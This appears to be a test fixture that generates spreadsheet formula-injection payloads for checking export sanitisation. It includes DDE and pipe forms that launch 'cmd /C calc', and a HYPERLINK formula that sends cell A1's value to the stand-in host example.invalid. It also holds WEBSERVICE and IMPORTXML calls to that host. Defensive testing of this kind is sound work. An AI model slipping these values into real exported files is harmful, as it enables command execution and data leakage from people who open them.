const starts = [
	'=',
	'+',
	'-',
	'@',
	'\t=',
	'\r=',
	'\n=',
	' =',
	'\u00a0=',
	'＝',
	'＋',
	'－',
	'＠',
	'"=',
	"'="
];
const bodies = [
	'1+1',
	'HYPERLINK("https://example.invalid/?x="&A1,"ici")',
	"cmd|' /C calc'!A0",
	'WEBSERVICE("https://example.invalid")',
	'IMPORTXML("https://example.invalid","//a")',
	'DDE("cmd";"/C calc";"x")',
	'SUM(A1:A9)',
	'A1'
];

/** Texts that a careless export would turn into formulas. */
export const formulaPayloads = starts.flatMap((start) => bodies.map((body) => start + body));
